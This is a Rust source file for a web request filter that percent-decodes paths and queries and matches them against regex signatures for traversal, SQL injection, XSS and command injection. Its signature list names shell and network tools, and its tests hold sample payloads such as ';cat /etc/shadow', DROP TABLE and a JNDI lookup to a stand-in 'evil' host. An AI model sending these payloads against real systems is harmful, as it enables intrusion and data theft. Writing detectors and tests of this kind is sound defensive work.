//! Attack signature screening over the request target.
//!
//! Path and query are percent-decoded (twice, to catch double encoding) and matched
//! against a fixed set of path traversal, SQL injection, XSS and command injection
//! signatures.

use super::{AdmissionError, DenyReason, Mode, RequestFacts, Stage, StageOutcome};
use percent_encoding::percent_decode_str;
use regex::RegexSet;
use tracing::warn;

const SIGNATURES: &[&str] = &[
    // path traversal
    r"\.\.[/\\]",
    r"(?i)/etc/(passwd|shadow|hosts)",
    // sql injection
    r"(?i)\bunion\b[\s(]+(all\s+)?select\b",
    r"(?i)'\s*(or|and)\s+'?\w+'?\s*=\s*'?\w+",
    r"(?i)\b(or|and)\s+1\s*=\s*1\b",
    r"(?i);\s*(drop|delete|truncate|alter|insert|update)\s",
    r"(?i)\b(sleep|benchmark|pg_sleep)\s*\(",
    r"'\s*--",
    // xss
    r"(?i)<\s*/?\s*script",
    r"(?i)javascript\s*:",
    r"(?i)\bon(error|load|mouseover|focus|click)\s*=",
    r"(?i)<\s*(iframe|svg|img)[^>]*>",
    // command injection
    r"(?i)(;|\||&&|\$\(|`)\s*(cat|ls|id|whoami|rm|wget|curl|bash|sh|nc|ping)\b",
    r"(?i)\$\{jndi:",
];

pub struct ShieldStage {
    signatures: RegexSet,
    mode: Mode,
}

impl std::fmt::Debug for ShieldStage {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("ShieldStage")
            .field("signatures", &self.signatures.len())
            .field("mode", &self.mode)
            .finish()
    }
}

impl ShieldStage {
    /// # Errors
    /// Returns an error if a signature fails to compile.
    pub fn new(mode: Mode) -> Result<Self, regex::Error> {
        Ok(Self {
            signatures: RegexSet::new(SIGNATURES)?,
            mode,
        })
    }

    /// True when `target` (path, optionally with `?query`) carries an attack signature.
    #[must_use]
    pub fn is_attack(&self, target: &str) -> bool {
        let once = decode(target);
        let twice = decode(&once);
        self.signatures.is_match(target)
            || self.signatures.is_match(&once)
            || self.signatures.is_match(&twice)
    }
}

fn decode(value: &str) -> String {
    let plus_as_space = value.replace('+', " ");
    percent_decode_str(&plus_as_space)
        .decode_utf8_lossy()
        .into_owned()
}

impl Stage for ShieldStage {
    fn name(&self) -> &'static str {
        "shield"
    }

    fn mode(&self) -> Mode {
        self.mode
    }

    fn evaluate(&self, facts: &RequestFacts) -> Result<StageOutcome, AdmissionError> {
        let target = match &facts.query {
            Some(query) => format!("{}?{query}", facts.path),
            None => facts.path.clone(),
        };
        if self.is_attack(&target) {
            warn!(
                reason = "shield",
                ip = %facts.client_ip,
                user_agent = facts.user_agent.as_deref().unwrap_or(""),
                path = %facts.path,
                method = %facts.method,
                "Shield request blocked"
            );
            return Ok(StageOutcome::Deny(DenyReason::Shield));
        }
        Ok(StageOutcome::Continue)
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    fn shield() -> ShieldStage {
        ShieldStage::new(Mode::Live).unwrap()
    }

    #[test]
    fn benign_targets_pass() {
        let shield = shield();
        for target in [
            "/",
            "/api",
            "/api/users",
            "/api/auth/sign-in",
            "/health",
            "/search?q=rust+web+frameworks&page=2",
            "/docs?topic=select%20a%20plan",
            "/profile?name=O%27Brien",
        ] {
            assert!(!shield.is_attack(target), "false positive for {target}");
        }
    }

    #[test]
    fn path_traversal_is_detected() {
        let shield = shield();
        assert!(shield.is_attack("/static/../../etc/passwd"));
        assert!(shield.is_attack("/static/%2e%2e%2f%2e%2e%2fetc"));
        assert!(shield.is_attack("/static/%252e%252e%252fsecret"));
    }

    #[test]
    fn sql_injection_is_detected() {
        let shield = shield();
        assert!(shield.is_attack("/api/users?id=1%20UNION%20SELECT%20password%20FROM%20principals"));
        assert!(shield.is_attack("/api/users?name=%27%20OR%20%271%27%3D%271"));
        assert!(shield.is_attack("/api/users?id=1;%20DROP%20TABLE%20principals"));
        assert!(shield.is_attack("/api/users?id=1+or+1=1"));
    }

    #[test]
    fn xss_is_detected() {
        let shield = shield();
        assert!(shield.is_attack("/?q=%3Cscript%3Ealert(1)%3C/script%3E"));
        assert!(shield.is_attack("/?next=javascript:alert(1)"));
        assert!(shield.is_attack("/?q=%3Cimg%20src=x%20onerror=alert(1)%3E"));
    }

    #[test]
    fn command_injection_is_detected() {
        let shield = shield();
        assert!(shield.is_attack("/?host=example.com;cat%20/etc/shadow"));
        assert!(shield.is_attack("/?host=%24(whoami)"));
        assert!(shield.is_attack("/?x=%24%7Bjndi:ldap://evil/a%7D"));
    }
}
